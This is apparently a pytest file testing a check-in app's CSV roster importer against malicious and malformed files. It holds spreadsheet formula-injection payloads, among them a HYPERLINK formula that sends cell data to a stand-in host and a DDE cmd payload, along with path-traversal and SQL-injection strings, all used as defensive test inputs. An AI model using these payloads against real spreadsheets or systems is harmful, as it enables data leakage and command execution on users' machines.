"""Malicious and malformed CSV files: each is refused as a whole or imported with a finding."""

from __future__ import annotations

import dataclasses
import io
import json
import os
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import TYPE_CHECKING

import pytest

from checkin.errors import BadFile
from checkin.roster import ReadingOptions, parser_process
from checkin.roster.limits import Limits
from checkin.roster.reading import CHILD, CHILD_OPTION, read_sheet
from tests.checkin.roster.roster_files import (
    codes_of,
    csv_of,
    load,
    names,
    nobody,
    read,
    refused,
    refused_huge,
    stays_out,
    table,
    text_file,
    workbook,
)
from tests.factories import randomness
from tests.paths import ROOT

if TYPE_CHECKING:
    from collections.abc import Iterator

    from checkin.station import Station


PEOPLE = workbook([["name", "organisation"], ["Ali", "Press"], ["Veli", "Radio"]])


@pytest.fixture
def station(tmp_path: Path) -> Iterator[Station]:
    with nobody(tmp_path) as opened:
        yield opened


class TestText:
    def test_an_empty_file_is_refused(self, tmp_path: Path) -> None:
        for nothing in ("", "\ufeff", " \n \r\n", "\n" * 1000):
            assert "empty" in refused(tmp_path, nothing)

    def test_a_header_alone_is_refused(self, station: Station, tmp_path: Path) -> None:
        for content in ("name,organisation\n", "name,organisation", "name,email\n,\n \t,\n"):
            with pytest.raises(BadFile, match="no delegates"):
                station.roster.read(text_file(tmp_path, content))

    def test_a_byte_order_mark_is_no_letter(self, station: Station, tmp_path: Path) -> None:
        load(station, text_file(tmp_path, "\ufeffname\nAli\n"))

        assert names(station) == ["Ali"]

    @pytest.mark.parametrize("encoding", ["utf-16", "utf-16-le", "utf-16-be", "utf-32"])
    def test_wide_text_with_its_mark_is_read(
        self, station: Station, tmp_path: Path, encoding: str
    ) -> None:
        text = "name\torganisation\n古屋圭司\tدولقۇن\n"
        bom = "" if encoding in ("utf-16", "utf-32") else "\ufeff"
        preview = load(station, text_file(tmp_path, (bom + text).encode(encoding)))

        assert names(station) == ["古屋圭司"]
        assert preview.delimiter == "\t"

    def test_wide_text_without_its_mark_is_refused_and_never_garbled(self, tmp_path: Path) -> None:
        assert "no table" in refused(tmp_path, "name,org\nAli,Press\n".encode("utf-16-le") * 5)

    def test_japanese_of_windows_is_detected_and_asked_about(
        self, station: Station, tmp_path: Path
    ) -> None:
        rows = csv_of([["氏名", "所属"], ["髙﨑 一郎", "衆議院"], ["古屋 圭司", "国会"]])
        path = text_file(tmp_path, rows.encode("cp932"))

        assert stays_out(station, path) == ["encoding_guessed"]
        preview = load(station, path)
        assert names(station) == ["髙﨑 一郎", "古屋 圭司"]
        assert preview.encoding == "cp932"
        assert preview.sample[0][0] == "髙﨑 一郎"

    def test_the_encoding_can_be_chosen(self, station: Station, tmp_path: Path) -> None:
        path = text_file(tmp_path, "name\nŁukasz Żak\n".encode("cp1250"))
        preview = station.roster.read(path, ReadingOptions(encoding="cp1250"))

        assert preview.apply().added == 1
        assert names(station) == ["Łukasz Żak"]

    @pytest.mark.parametrize("encoding", ["no-such", "zip", "hex", "rot13", "\0", "undefined"])
    def test_what_is_no_encoding_is_refused(self, tmp_path: Path, encoding: str) -> None:
        with pytest.raises(BadFile, match="no encoding"):
            read_sheet(text_file(tmp_path, "name\nJos\xe9\n"), ReadingOptions(encoding=encoding))

    def test_one_bad_byte_in_a_name_is_a_finding(self, station: Station, tmp_path: Path) -> None:
        content = "name,organisation\nAli,Köln\nV\0li,Tōkyō\nZoë,Łódź\n".encode().replace(
            b"\0", b"\xff"
        )
        path = text_file(tmp_path, content)

        assert stays_out(station, path) == ["bad_bytes"]
        load(station, path)
        assert names(station) == ["Ali", "V\ufffdli", "Zoë"]

    def test_one_letter_of_western_windows_is_a_finding(
        self, station: Station, tmp_path: Path
    ) -> None:
        path = text_file(tmp_path, "name\nJosé Pérez\nAli\n".encode("cp1252"))

        assert stays_out(station, path) == ["encoding_guessed"]
        load(station, path)
        assert names(station) == ["José Pérez", "Ali"]

    def test_a_cell_of_131073_letters_is_refused(self, tmp_path: Path) -> None:
        assert "longer than" in refused(tmp_path, "name,notes\nAli," + "x" * 131_073 + "\n")

    @pytest.mark.parametrize("size", [10, 2_500_000])
    def test_a_quote_that_never_closes_is_refused(self, tmp_path: Path, size: int) -> None:
        rows = "Veli,Radio\n" * (size // 11 + 1)
        sentence = refused(tmp_path, 'name,organisation\nAli,"Press\n' + rows)

        assert "row 2" in sentence
        assert "quotation mark" in sentence

    @pytest.mark.parametrize(
        "name",
        [
            '=HYPERLINK("http://e/?"&A2,"x")',
            "=cmd|'/c calc'!A0",
            "+1+1",
            "-1",
            "@SUM(A1)",
        ],
    )
    @pytest.mark.parametrize("before", ["", "\t", "\r", " \t"])
    def test_a_formula_stays_the_text_that_it_is(
        self, station: Station, tmp_path: Path, name: str, before: str
    ) -> None:
        preview = load(station, text_file(tmp_path, csv_of([["name"], [before + name]])))

        assert names(station) == [name]
        assert "like_formula" in codes_of(preview)

    def test_breaking_out_of_a_cell_shows_in_the_count_of_cells(
        self, station: Station, tmp_path: Path
    ) -> None:
        content = 'name;organisation\n"Ali";Press\n"=1+1";"Radio";=1+1\nVeli\n'
        path = text_file(tmp_path, content)

        assert stays_out(station, path) == ["too_many_cells", "like_formula", "too_few_cells"]
        load(station, path)
        assert names(station) == ["Ali", "=1+1", "Veli"]

    def test_a_leading_nul_is_taken_out_and_told(self, station: Station, tmp_path: Path) -> None:
        path = text_file(tmp_path, "name\n\0=1+1\n")

        assert stays_out(station, path) == ["control", "like_formula"]
        load(station, path)
        assert names(station) == ["=1+1"]

    @pytest.mark.parametrize("delimiter", [",", ";", "\t", "|"])
    def test_the_delimiter_is_found_out(
        self, station: Station, tmp_path: Path, delimiter: str
    ) -> None:
        rows = [
            ["name", "organisation", "notes"],
            ["Ali", "Press", "a,b;c"],
            ["Veli", "Radio", "d;e,f"],
        ]
        content = "\r\n".join(delimiter.join(f'"{cell}"' for cell in row) for row in rows)
        preview = load(station, text_file(tmp_path, content))

        assert preview.delimiter == delimiter
        assert [delegate.notes for delegate in station.roster.delegates()] == ["a,b;c", "d;e,f"]

    def test_the_delimiter_can_be_chosen_or_named_by_the_file(self, tmp_path: Path) -> None:
        path = text_file(tmp_path, "name:org\nAli:Press, Radio; Film\n")
        named = text_file(tmp_path, "sep=:\r\nname:org\r\nAli:Press, Radio\r\n", "named.csv")

        assert read_sheet(path, ReadingOptions(delimiter=":")).rows[1] == [
            "Ali",
            "Press, Radio; Film",
        ]
        assert read_sheet(named, ReadingOptions()).rows == [
            ["name", "org"],
            ["Ali", "Press, Radio"],
        ]
        assert read_sheet(path, ReadingOptions(delimiter="tab")).delimiter == "\t"
        for wrong in ("::", '"', "\n"):
            with pytest.raises(BadFile, match="cannot be what parts"):
                read_sheet(path, ReadingOptions(delimiter=wrong))

    def test_one_heading_twice_is_asked_where_the_columns_differ(
        self, station: Station, tmp_path: Path
    ) -> None:
        for header in ("Name,Name", "name,NAME", "Name, name "):
            preview = station.roster.read(text_file(tmp_path, f"{header}\nAli,Veli\n"))
            assert (preview.lines[0].name, codes_of(preview)) == ("Ali", ["twin_column"])
            assert preview.headings[1].endswith(" (2)")

    def test_ragged_rows_are_findings(self, station: Station, tmp_path: Path) -> None:
        path = text_file(
            tmp_path, "name,organisation,title\nAli,Press\nVeli,Radio,Host,x,y\nC,D,E,,\n"
        )

        assert stays_out(station, path) == ["too_few_cells", "too_many_cells"]

    def test_a_million_rows_are_refused(self, tmp_path: Path) -> None:
        sentence = refused_huge(tmp_path, "name\n" + "Ali Veli\n" * 1_000_000)

        assert "more than 150000 rows" in sentence

    def test_a_file_of_more_than_20_megabytes_is_refused(self, tmp_path: Path) -> None:
        assert "larger than 20 MB" in refused_huge(tmp_path, b"x" * (20 * 1024 * 1024 + 1))

    def test_many_columns_are_refused(self, station: Station, tmp_path: Path) -> None:
        header = ",".join(f"c{n}" for n in range(1000))
        with pytest.raises(BadFile, match="more than 400 columns"):
            station.roster.read(text_file(tmp_path, f"name,{header}\nAli\n"))

    def test_the_same_delegate_in_another_spelling_is_a_duplicate(
        self, station: Station, tmp_path: Path
    ) -> None:
        path = text_file(
            tmp_path, "name,organisation\nJosé Pérez,Diet\nJOSE\u0301 PE\u0301REZ,diet\n"
        )

        assert stays_out(station, path) == ["duplicate"]
        load(station, path)
        assert names(station) == ["José Pérez"]

    def test_two_people_of_one_name_are_both_kept(self, station: Station, tmp_path: Path) -> None:
        path = text_file(tmp_path, "name,organisation\nいとう たかえ,A党\nいとう たかえ,B党\n")

        assert stays_out(station, path) == ["homonym"]
        load(station, path)
        assert len(station.roster.delegates()) == 2

    def test_rights_in_a_column_are_ignored(self, station: Station, tmp_path: Path) -> None:
        path = text_file(tmp_path, "name,role,Password\nAli,organiser,x\n")

        assert stays_out(station, path) == ["ignored_column", "ignored_column"]
        load(station, path)
        (delegate,) = station.roster.delegates()
        assert "organiser" not in str(
            dataclasses.asdict(dataclasses.replace(delegate, extras=dict(delegate.extras)))
        )

    def test_paths_in_a_column_of_photos_are_ignored(
        self, station: Station, tmp_path: Path
    ) -> None:
        path = text_file(tmp_path, "name,Photo,file name\nAli,../../etc/passwd,C:\\boot.ini\n")

        assert stays_out(station, path) == ["ignored_column", "ignored_column"]
        load(station, path)
        assert dict(station.roster.delegates()[0].extras) == {}

    def test_sql_is_a_name_like_any_other(self, station: Station, tmp_path: Path) -> None:
        name = "Robert'); DROP TABLE delegates;--"
        load(station, text_file(tmp_path, table({"name": name, "number": "1"})))

        assert names(station) == [name]
        assert station.journal.verify().intact

    @pytest.mark.parametrize(
        "content",
        [
            b"MZ\x90\0\x03\0\0\0" + bytes(500),
            b"\x7fELF\x02\x01" + bytes(500),
            b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n",
            b"\x89PNG\r\n\x1a\n",
            b"\x1f\x8b\x08\0",
            b"7z\xbc\xaf\x27\x1c",
            b"<!DOCTYPE html><table><tr><td>name</td></tr></table>",
            b'<?xml version="1.0"?><x/>',
            randomness(1)(4096),
        ],
        ids=["exe", "elf", "pdf", "png", "gzip", "7z", "html", "xml", "noise"],
    )
    @pytest.mark.parametrize("name", ["roster.csv", "roster.xlsx"])
    def test_something_else_by_the_name_of_a_table_is_refused(
        self, tmp_path: Path, content: bytes, name: str
    ) -> None:
        assert "no table" in refused(tmp_path, content, name)

    def test_an_archive_by_the_name_of_a_table_is_refused(self, tmp_path: Path) -> None:
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as archive:
            archive.writestr("roster.csv", "name\nAli\n")

        for name in ("roster.csv", "roster.xlsx"):
            assert "archive and no workbook" in refused(tmp_path, out.getvalue(), name)

    def test_a_workbook_is_known_by_what_it_is(self, tmp_path: Path) -> None:
        assert read(text_file(tmp_path, PEOPLE, "people.csv")).rows[1][0] == "Ali"


class TestPaths:
    def test_a_file_that_is_not_there_is_missed(self, tmp_path: Path) -> None:
        with pytest.raises(BadFile, match=r"no file none\.csv"):
            read_sheet(tmp_path / "none.csv", ReadingOptions())

    def test_a_folder_is_refused(self, tmp_path: Path) -> None:
        with pytest.raises(BadFile, match="no ordinary file"):
            read_sheet(tmp_path, ReadingOptions())

    @pytest.mark.skipif(os.name != "posix", reason="needs links, pipes and devices")
    def test_links_pipes_and_devices_are_refused_at_once(self, tmp_path: Path) -> None:
        text_file(tmp_path, "name\nAli\n")
        (tmp_path / "link.csv").symlink_to(tmp_path / "roster.csv")
        (tmp_path / "zero.csv").symlink_to("/dev/zero")
        os.mkfifo(tmp_path / "pipe.csv")

        for path in (tmp_path / "link.csv", tmp_path / "zero.csv"):
            with pytest.raises(BadFile, match="a link or a device"):
                read_sheet(path, ReadingOptions())
        for path in (tmp_path / "pipe.csv", Path("/dev/zero"), Path("/dev/stdin")):
            with pytest.raises(BadFile, match=r"no ordinary file|a link or a device"):
                read_sheet(path, ReadingOptions())


class TestTheProcess:
    @pytest.mark.parametrize("limit", [{"seconds": 0}, {"memory": 24 * 1024 * 1024}])
    def test_one_that_takes_too_much_costs_a_sentence(
        self, tmp_path: Path, limit: dict[str, int]
    ) -> None:
        if "memory" in limit and sys.platform != "linux":
            pytest.skip("needs a limit on memory")
        path = text_file(tmp_path, "name\n" + "Ali\n" * 140_000)

        with pytest.raises(BadFile, match=r"memory|within the limits"):
            read_sheet(path, ReadingOptions(), Limits()._replace(**limit))

    def test_it_answers_with_rows_or_a_reason(self) -> None:
        asked = json.dumps({"encoding": "", "delimiter": "", "limits": Limits()})

        good = json.loads(parser_process.answer(asked, io.BytesIO(b"name\nAli\n")))
        bad = json.loads(parser_process.answer(asked, io.BytesIO(b"")))
        assert good["sheets"][0]["rows"] == [["name"], ["Ali"]]
        assert bad == {"refused": "empty", "facts": {}}

    def test_running_out_of_memory_is_a_reason_too(self) -> None:
        class Full(io.BytesIO):
            def read(self, size: int | None = -1, /) -> bytes:
                raise MemoryError

        asked = json.dumps({"encoding": "", "delimiter": "", "limits": Limits()})

        assert json.loads(parser_process.answer(asked, Full()))["refused"] == "memory"

    def test_it_starts_without_the_rest_of_the_program(self) -> None:
        code = (
            "import runpy, sys; sys.argv = ['x', '{}']\n"
            f"try: runpy.run_path({str(CHILD)!r}, run_name='__main__')\n"
            "except KeyError: pass\n"
            "print(sorted(set(sys.modules) & {'sqlalchemy', 'checkin.domain', 'chardet', 'ssl', 'socket'}))"
        )
        found = subprocess.run(
            [sys.executable, "-I", "-c", code], capture_output=True, text=True, check=True
        )
        assert found.stdout.strip() == "[]"

    def test_a_frozen_program_is_its_own_child(self) -> None:
        asked = json.dumps({"encoding": "", "delimiter": "", "limits": Limits()})
        code = (
            "import sys, main\n"
            "main.main(sys.argv[1:])\n"
            "print('', sorted(set(sys.modules) & {'sqlalchemy', 'checkin.domain', 'argparse', 'ssl'}))"
        )
        found = subprocess.run(
            [sys.executable, "-c", code, CHILD_OPTION, asked],
            capture_output=True,
            check=True,
            cwd=ROOT,
            input=b"name\nAli\n",
        )
        rows, loaded = found.stdout.decode().rsplit(" ", 1)
        assert json.loads(rows)["sheets"][0]["rows"] == [["name"], ["Ali"]]
        assert loaded.strip() == "[]"
